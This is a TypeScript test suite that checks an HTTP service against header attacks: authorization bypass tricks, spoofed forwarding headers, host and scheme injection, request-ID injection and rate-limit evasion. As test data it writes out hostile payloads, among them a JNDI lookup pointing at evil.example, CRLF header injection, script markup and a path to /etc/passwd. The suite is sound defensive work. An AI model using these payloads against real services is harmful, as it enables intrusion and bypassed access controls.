import assert from "node:assert/strict";
import { mock } from "node:test";
import { startLoadBalancer, type LoadBalancer } from "../../local/fargate/load-balancer";
import { token } from "../support/service/backends";
import { exchangeOne, rawRequest } from "../support/service/raw-http";
import { useService, validRequest } from "../support/service/use-service";

const uuid = /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/;

describe("header tricks", () => {
  const service = useService();
  beforeEach(async () => {
    const response = await service().post({ ...validRequest, transactionId: "known" });
    assert.equal(response.status, 202);
  });

  describe("authorization", () => {
    const get = (...lines: string[]) =>
      exchangeOne(
        service().url,
        ["GET /transactions/known HTTP/1.1", "Host: service", "Connection: close", ...lines, "", ""].join("\r\n"),
      );
    const bearer = `Authorization: Bearer ${token}`;

    it("is granted to the one plain form", async () => {
      assert.equal((await get(bearer)).status, 200);
    });

    const refused: Record<string, [status: number, ...lines: string[]]> = {
      "a token in a second header behind a wrong one": [401, "Authorization: Bearer wrong", bearer],
      "a token in a second header behind an empty one": [401, "Authorization:", bearer],
      "a token behind a wrong one in a list": [401, `Authorization: Bearer wrong, Bearer ${token}`],
      "a token with another behind it": [401, `${bearer}, Bearer wrong`],
      "a token behind two spaces with a third word": [401, `${bearer} more`],
      "a token with a NUL": [400, `${bearer}\0`],
      "a token in a folded line": [400, "Authorization: Bearer", ` ${token}`],
      "a space before the colon": [400, `Authorization : Bearer ${token}`],
      "a token in Proxy-Authorization": [401, `Proxy-Authorization: Bearer ${token}`],
      "a token in a cookie": [401, `Cookie: authorization=Bearer ${token}`],
      "an underscore in the place of a hyphen": [401, `HTTP_AUTHORIZATION: Bearer ${token}`],
      "a word of a proxy that it has been checked": [401, "X-Amzn-Oidc-Identity: admin", "X-Forwarded-User: admin"],
      "another path or method for a gateway": [
        401,
        "X-Original-URL: /",
        "X-Rewrite-URL: /",
        "X-HTTP-Method-Override: GET",
      ],
      "a loopback address of the client": [401, "X-Forwarded-For: 127.0.0.1", "X-Real-IP: 127.0.0.1"],
    };
    for (const [name, [status, ...lines]] of Object.entries(refused)) {
      it(`is not granted to ${name}`, async () => {
        const answer = await get(...lines);
        assert.equal(answer.status, status);
        assert.ok(!answer.body.includes("user-1"));
      });
    }
  });

  describe("a host or scheme of the attacker's choice", () => {
    const lines = [
      "X-Forwarded-Host: evil.example",
      "X-Forwarded-Proto: javascript",
      "Forwarded: host=evil.example;proto=javascript",
      "X-Forwarded-Prefix: //evil.example",
    ];
    const requests: Record<string, (id: string) => string> = {
      "an accepted transaction": (id) =>
        rawRequest(
          "POST /transactions HTTP/1.1",
          ["Content-Type: application/json", ...lines],
          JSON.stringify({ ...validRequest, transactionId: id }),
        ),
      "a transaction": () => rawRequest("GET /transactions/known HTTP/1.1", lines),
      "a missing path": () => rawRequest("GET /nothing HTTP/1.1", lines),
      "the documentation": () => rawRequest("GET /documentation HTTP/1.1", lines),
      "the documentation's document": () => rawRequest("GET /documentation/json HTTP/1.1", lines),
      "a user's page": () => rawRequest("GET /users/user-1/transactions HTTP/1.1", lines),
    };
    for (const [name, request] of Object.entries(requests)) {
      it(`appears nowhere in the answer to ${name}`, async () => {
        const plain = await exchangeOne(service().url, request("plain").replace(/^(X-)?Forwarded.*\r\n/gim, ""));
        const answer = await exchangeOne(
          service().url,
          request("tricked").replace("Host: service", "Host: evil.example"),
        );
        assert.equal(answer.status, plain.status);
        assert.ok(!/evil|javascript:/i.test(JSON.stringify(answer)), JSON.stringify(answer));
      });
    }
  });

  describe("X-Request-Id", () => {
    const get = (...lines: string[]) =>
      exchangeOne(service().url, rawRequest("GET /transactions/none HTTP/1.1", lines));

    it("is kept where it is harmless", async () => {
      assert.equal(
        (await get("X-Request-Id: Root=1-67891233-abcdef012345678912345678")).headers["x-request-id"],
        "Root=1-67891233-abcdef012345678912345678",
      );
    });

    const replaced: Record<string, string[]> = {
      "129 characters": ["a".repeat(129)],
      "8,000 characters": ["a".repeat(8_000)],
      "two of them": ["first", "second"],
      JSON: ['{"level":"fatal"}'],
      "quotes and braces": ['a","admin":true,"b":"'],
      markup: ["<script>alert(1)</script>"],
      "an expression": ["${jndi:ldap://evil.example/a}"],
      "a percent-encoded line end": ["a%0d%0aset-cookie:b"],
      "a tab": ["a\tb"],
      "text beyond ASCII": ["Ã©"],
      "a path": ["../../etc/passwd"],
      nothing: [""],
    };
    for (const [name, values] of Object.entries(replaced)) {
      it(`is replaced when it is ${name}`, async () => {
        const answer = await get(...values.map((value) => `X-Request-Id: ${value}`));
        assert.equal(answer.status, 404);
        const { requestId } = JSON.parse(answer.body) as { requestId: string };
        assert.match(requestId, uuid);
        assert.equal(answer.headers["x-request-id"], requestId);
      });
    }

    for (const [name, value] of Object.entries({
      "a line feed": "a\nset-cookie: b",
      "a carriage return": "a\rset-cookie: b",
      "an escape": "a\x1b[2J",
    })) {
      it(`ends the connection when it holds ${name}`, async () => {
        const answer = await get(`X-Request-Id: ${value}`);
        assert.deepEqual([answer.status, answer.headers["set-cookie"]], [400, undefined]);
      });
    }
  });

  describe("a flood of headers", () => {
    const floods: Record<string, string[]> = {
      "one of 17,000 bytes": [`x: ${"y".repeat(17_000)}`],
      "a name of 17,000 bytes": [`${"x".repeat(17_000)}: y`],
      "5,000 short ones": Array.from({ length: 5_000 }, () => "a:b"),
      "1,500 different ones": Array.from({ length: 1_500 }, (_, index) => `x-header-${index}: y`),
      "2,000 cookies": Array.from({ length: 2_000 }, (_, index) => `cookie: a${index}=b`),
    };
    for (const [name, lines] of Object.entries(floods)) {
      it(`is refused: ${name}`, async () => {
        const answer = await exchangeOne(service().url, rawRequest("GET /transactions/known HTTP/1.1", lines));
        assert.deepEqual([answer.status, answer.headers.connection], [431, "close"]);
      });
    }
  });
});

describe("a client that tries to look like many, to escape the rate limit", () => {
  const limit = 5;
  const service = useService({ app: { rateLimitPerSecond: limit } });
  let loadBalancer: LoadBalancer;
  before(async () => {
    const healthCheck = { path: "/", healthyThreshold: 2, unhealthyThreshold: 3, intervalSeconds: 30 };
    loadBalancer = await startLoadBalancer({ port: 0, idleTimeoutSeconds: 60, healthCheck });
    loadBalancer.register(service().url);
  });
  after(() => loadBalancer.stop());

  const spoofs: Record<string, (index: number) => string[]> = {
    "X-Forwarded-For": (index) => [`X-Forwarded-For: 203.0.113.${index}`],
    "a list in X-Forwarded-For": (index) => [`X-Forwarded-For: 127.0.0.1, 203.0.113.${index}, 198.51.100.${index}`],
    "two X-Forwarded-For headers": (index) => [
      `X-Forwarded-For: 203.0.113.${index}`,
      `X-Forwarded-For: 198.51.100.${index}`,
    ],
    "an X-Forwarded-For without addresses": (index) => [`X-Forwarded-For: client-${index}`],
    "an X-Forwarded-For with a comma at its end": (index) => [`X-Forwarded-For: 203.0.113.${index},`],
    "IPv6 in X-Forwarded-For": (index) => [`X-Forwarded-For: 2001:db8::${index}`],
    "the headers of other proxies": (index) =>
      ["X-Real-IP", "X-Client-IP", "True-Client-IP", "CF-Connecting-IP", "X-Cluster-Client-IP"]
        .map((name) => `${name}: 203.0.113.${index}`)
        .concat(`Forwarded: for=203.0.113.${index}`),
    "other tokens": (index) => [`X-Api-Key: ${index}`, `Cookie: session=${index}`],
    "other hosts": (index) => [`X-Forwarded-Host: host-${index}.example`],
  };
  // The clock stands still, so that all is within one second, and each test has a second of its own.
  let second = performance.now();
  for (const [name, spoof] of Object.entries(spoofs)) {
    it(`remains one behind the load balancer: ${name}`, async () => {
      second += 10_000;
      const clock = mock.method(performance, "now", () => second);
      try {
        const statuses: number[] = [];
        for (let index = 1; index <= limit + 5; index += 1) {
          const request = rawRequest("GET /transactions/none HTTP/1.1", spoof(index));
          statuses.push((await exchangeOne(`http://127.0.0.1:${loadBalancer.port}`, request)).status);
        }
        assert.deepEqual(statuses, [...Array<number>(limit).fill(404), ...Array<number>(5).fill(429)]);
      } finally {
        clock.mock.restore();
      }
    });
  }
});
